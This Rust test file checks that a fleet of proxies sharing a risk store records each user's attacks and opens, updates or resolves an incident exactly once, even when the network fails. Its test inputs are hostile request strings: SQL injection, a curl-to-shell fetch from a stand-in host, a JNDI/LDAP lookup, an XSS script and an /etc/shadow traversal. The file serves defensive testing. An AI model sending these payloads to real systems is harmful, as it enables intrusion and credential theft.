//! Do proxies that share a store come to one result? Whatever is lost, doubled, late or killed: the same code, with time as an argument.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

mod simulation;
mod store;

use user_risk_filter::fleet::record_copy;

use crate::simulation::{Fleet, Network, id};

const ATTACKS: [&str; 6] = [
    "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
    "/run?c=%3Bcurl%20http://x.example/s%7Csh",
    "/log?x=$%7Bjndi:ldap://x.example/a%7D",
    "/say?t=%3Cscript%3Ealert(1)%3C/script%3E",
    "/file?f=../../../../etc/shadow",
    "/a?u=1'%20OR%20'1'='1",
];

const WELL: Network = Network { lost: 0, unanswered: 0, cut: 0, delay: 100 };
const BADLY: Network = Network { lost: 60, unanswered: 60, cut: 60, delay: 700 };

fn opened(fleet: &Fleet) -> u64 {
    fleet.count("user_risk_filter_incidents_opened_total")
}

#[test]
fn a_user_who_attacks_each_proxy_once_is_one_incident_told_once() {
    let mut fleet = Fleet::new(3, 1, WELL, "");
    fleet.pass(1000);
    for (proxy, attack) in ATTACKS.iter().enumerate().take(3) {
        fleet.get(proxy, "mallory", attack);
    }
    fleet.pass(5000);
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.updated"], "26 points are in the next band");
    assert_eq!(opened(&fleet), 1);
    for proxy in 0..3 {
        let record = fleet.record(proxy, "mallory").unwrap();
        assert_eq!((record.increase().to_string().as_str(), record.open().is_some()), ("26", true), "proxy {proxy}");
    }
    let stored = record_copy::from_bytes(fleet.store.record(&id("mallory").to_string()).unwrap()).unwrap().0;
    assert!(!stored.awaits_delivery(), "it is known everywhere that it was sent");
}

#[test]
fn points_that_only_the_fleet_has_together_cross_the_threshold() {
    let mut fleet = Fleet::new(2, 2, WELL, "");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    assert_eq!(fleet.received, []);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(3000);
    assert_eq!(fleet.received.len(), 1);
}

#[test]
fn the_same_act_on_two_proxies_counts_by_its_act_and_not_by_its_copies() {
    let mut fleet = Fleet::new(2, 3, WELL, "");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    fleet.pass(60_000);
    fleet.get(1, "mallory", ATTACKS[3]);
    fleet.pass(3000);
    let before = fleet.record(1, "mallory").unwrap().increase();
    fleet.get(1, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    assert_eq!(fleet.record(1, "mallory").unwrap().increase(), before, "the other proxy had counted it");
}

#[test]
fn the_same_request_on_all_proxies_at_once_counts_once() {
    let mut fleet = Fleet::new(3, 3, WELL, "");
    fleet.pass(1000);
    (0..3).for_each(|proxy| fleet.get(proxy, "bob", ATTACKS[0]));
    fleet.pass(5000);
    let stored = record_copy::from_bytes(fleet.store.record(&id("bob").to_string()).unwrap()).unwrap().0;
    assert_eq!(
        (stored.increase().to_string().as_str(), fleet.received.len()),
        ("8", 0),
        "a bookmark is no attack by three"
    );
}

#[test]
fn a_proxy_that_starts_knows_open_incidents_within_two_seconds() {
    let mut fleet = Fleet::new(3, 4, Network::default(), "");
    fleet.pass(1000);
    for user in 0..300 {
        fleet.get(0, &format!("u{user}"), ATTACKS[0]);
        fleet.get(1, &format!("u{user}"), ATTACKS[1]);
    }
    fleet.pass(20_000);
    assert_eq!((fleet.openings().len(), opened(&fleet)), (300, 300));
    fleet.restart(2);
    fleet.pass(2000);
    let known =
        (0..300).filter(|user| fleet.record(2, &format!("u{user}")).is_some_and(|record| record.open().is_some()));
    assert_eq!(known.count(), 300);
    fleet.pass(10_000);
    assert_eq!(fleet.received.len(), 300, "nobody is told again");
}

#[test]
fn while_the_store_is_silent_each_proxy_goes_on_and_afterwards_nothing_is_missing() {
    let mut fleet = Fleet::new(2, 5, Network { lost: 1000, ..WELL }, "");
    fleet.pass(3000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(0, "mallory", ATTACKS[1]);
    fleet.get(1, "mallory", ATTACKS[2]);
    fleet.pass(1000);
    assert_eq!(fleet.received.len(), 1, "this proxy's own crossing does not wait");
    let said = fleet.proxies[0]
        .lines
        .iter()
        .filter(|line| line["what"].as_str().is_some_and(|what| what.contains("store of the fleet fails")));
    assert_eq!(said.count(), 1);
    fleet.network = WELL;
    fleet.pass(120_000);
    for proxy in 0..2 {
        assert_eq!(fleet.record(proxy, "mallory").unwrap().increase().to_string(), "26", "proxy {proxy}");
    }
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.updated"], "together they are in the next band");
}

#[test]
fn a_crossing_waits_three_seconds_and_no_longer() {
    let mut fleet = Fleet::new(1, 6, WELL, "");
    fleet.pass(1000);
    fleet.network = Network { delay: 1_000_000, ..WELL };
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(0, "mallory", ATTACKS[1]);
    fleet.pass(2500);
    assert_eq!(fleet.received.len(), 0);
    fleet.pass(1000);
    assert_eq!(fleet.received.len(), 1);
}

#[test]
fn what_a_dead_proxy_had_to_send_another_one_sends_under_the_same_id() {
    for seed in 0..8 {
        let mut fleet = Fleet::new(3, 100 + seed, WELL, "");
        fleet.pass(1000);
        fleet.get(0, "mallory", ATTACKS[0]);
        fleet.get(0, "mallory", ATTACKS[1]);
        // Killed somewhere between the crossing and the sending.
        fleet.pass(250 * (1 + seed % 4));
        let before = fleet.received.clone();
        fleet.restart(0);
        fleet.pass(60_000);
        let had_told = fleet.store.record(&id("mallory").to_string()).is_some();
        let openings = fleet.openings();
        assert!(openings.values().all(|ids| ids.len() == 1), "{seed}: {:?}", fleet.received);
        assert!(!had_told || !openings.is_empty(), "{seed}: {before:?}");
    }
}

#[test]
fn a_store_that_forgets_everything_learns_it_again() {
    let mut fleet = Fleet::new(2, 7, WELL, "");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(5000);
    fleet.store.flush();
    fleet.pass(150_000);
    assert!(fleet.store.record(&id("mallory").to_string()).is_some());
    fleet.get(1, "mallory", ATTACKS[2]);
    fleet.pass(5000);
    assert_eq!((fleet.received.len(), fleet.openings().len()), (2, 1), "one opening, one update: {:?}", fleet.received);
    assert_eq!(fleet.record(0, "mallory").unwrap().increase(), fleet.record(1, "mallory").unwrap().increase());
}

/// Neither proxy has an event left to decide on when their copies meet.
#[test]
fn copies_that_cross_only_together_open_an_incident_when_they_meet() {
    let mut fleet = Fleet::new(2, 9, WELL, "");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(5000);
    fleet.store.flush();
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(5000);
    assert_eq!(fleet.received.len(), 0);
    fleet.pass(150_000);
    assert_eq!((fleet.received.len(), opened(&fleet)), (1, 1), "{:?}", fleet.received);
}

#[test]
fn the_end_of_an_incident_is_told_once() {
    let mut fleet = Fleet::new(3, 8, WELL, r#", "risk": {"window": "30s"}"#);
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(60_000);
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.resolved"]);
    assert!((0..3).all(|proxy| fleet.record(proxy, "mallory").is_none_or(|record| record.open().is_none())));
}

/// Any interleaving of proxies, losses, duplicates and orders of calls: when all have been heard, all have the same.
#[test]
fn whatever_happens_on_the_way_all_come_to_the_same() {
    for seed in 0..seeds() {
        let mut fleet = Fleet::new(4, 1000 + seed, BADLY, "");
        let mut alone = Fleet::new(1, 1, Network { lost: 1000, ..WELL }, "");
        fleet.pass(1000);
        alone.now = fleet.now;
        for _ in 0..60 {
            let (proxy, user, attack) = (fleet.random(4) as usize, fleet.random(5), ATTACKS[fleet.random(6) as usize]);
            let user = format!("u{user}");
            // Each on its own route, so that it is an act of its own wherever it happens.
            let target = format!("/r{}{}", ["a", "b", "c", "d"][proxy], &attack[attack.find('?').unwrap()..]);
            fleet.get(proxy, &user, &target);
            alone.get(0, &user, &target);
            let wait = 250 * fleet.random(6);
            fleet.pass(wait);
            alone.now = fleet.now;
            match fleet.random(40) {
                0 => fleet.store.flush(),
                1 => fleet.proxies[proxy].is_cut_off = !fleet.proxies[proxy].is_cut_off,
                2 => fleet.proxies[proxy].skew = 0,
                _ => {}
            }
        }
        fleet.network = WELL;
        fleet.proxies.iter_mut().for_each(|proxy| proxy.is_cut_off = false);
        fleet.pass(250_000);
        for user in 0..5 {
            let user = format!("u{user}");
            // An event on each, so that each has read what the others saw.
            (0..4).for_each(|proxy| fleet.get(proxy, &user, "/probe?t=user-risk-filter-test"));
            alone.now = fleet.now;
        }
        fleet.pass(20_000);
        for user in 0..5 {
            let user = format!("u{user}");
            let records: Vec<_> = (0..4).filter_map(|proxy| fleet.record(proxy, &user)).collect();
            let stored = record_copy::from_bytes(fleet.store.record(&id(&user).to_string()).unwrap()).unwrap().0;
            for record in &records {
                // What a proxy has not read yet it reads with the user's next event; the store has all that it has.
                let merged = stored.clone().merge(record.clone(), 3);
                assert_eq!(merged.tallies(), stored.tallies(), "seed {seed}, {user}");
                assert_eq!(
                    record.open().map(|open| open.incident),
                    stored.open().map(|open| open.incident),
                    "seed {seed}"
                );
            }
            let reference = alone.record(0, &user);
            let of = |tallies: Vec<user_risk_filter::incident::snapshot::Tally>| {
                let mut own: Vec<_> = tallies
                    .into_iter()
                    .filter(|one| one.rule != "test.string")
                    .map(|one| (one.rule, one.points))
                    .collect();
                own.sort();
                own
            };
            let expected = reference.map(|record| of(record.tallies())).unwrap_or_default();
            assert_eq!(
                of(stored.tallies()),
                expected,
                "seed {seed}, {user}: the points that one process would have had"
            );
        }
    }
}

fn seeds() -> u64 {
    std::env::var("FLEET_SEEDS").ok().and_then(|seeds| seeds.parse().ok()).unwrap_or(10)
}

/// Larger on demand: `FLEET_PROXIES=100 FLEET_USERS=10000 cargo test --release --test fleet -- --ignored --nocapture`.
#[test]
#[ignore = "takes minutes; prints calls and bytes a second"]
fn a_large_fleet_tells_of_each_user_once() {
    let number = |name: &str, usual| std::env::var(name).ok().and_then(|text| text.parse().ok()).unwrap_or(usual);
    let (proxies, users) = (number("FLEET_PROXIES", 100), number("FLEET_USERS", 10_000));
    let mut fleet = Fleet::new(proxies, 42, Network::default(), "");
    fleet.pass(1000);
    let start = fleet.now;
    // Each user attacks two proxies, three minutes in all.
    let per_step = users.div_ceil(180 * 4).max(1);
    let mut next = 0;
    while next < users {
        for user in next..(next + per_step).min(users) {
            let name = format!("u{user}");
            let proxy = fleet.random(proxies as u64) as usize;
            fleet.get(proxy, &name, ATTACKS[0]);
            fleet.get((proxy + 1) % proxies, &name, ATTACKS[1]);
        }
        next += per_step;
        fleet.pass(250);
    }
    fleet.pass(30_000);
    let (secs, events) = ((fleet.now - start) / 1000, 2 * users as u64);
    let (calls, bytes) = (fleet.store.calls, fleet.store.bytes);
    println!(
        "{proxies} proxies, {users} users, {secs} s: {} calls/s, {} kB/s, {} B and {:.2} calls an event",
        calls / secs,
        bytes / secs / 1000,
        bytes / events,
        calls as f64 / events as f64
    );
    let openings = fleet.openings();
    assert_eq!(openings.len(), users, "no message is lost");
    assert!(openings.values().all(|ids| ids.len() == 1), "and none is doubled");
    let received = fleet.received.iter().filter(|one| one.kind.ends_with("opened")).count();
    assert_eq!(received, users);
}
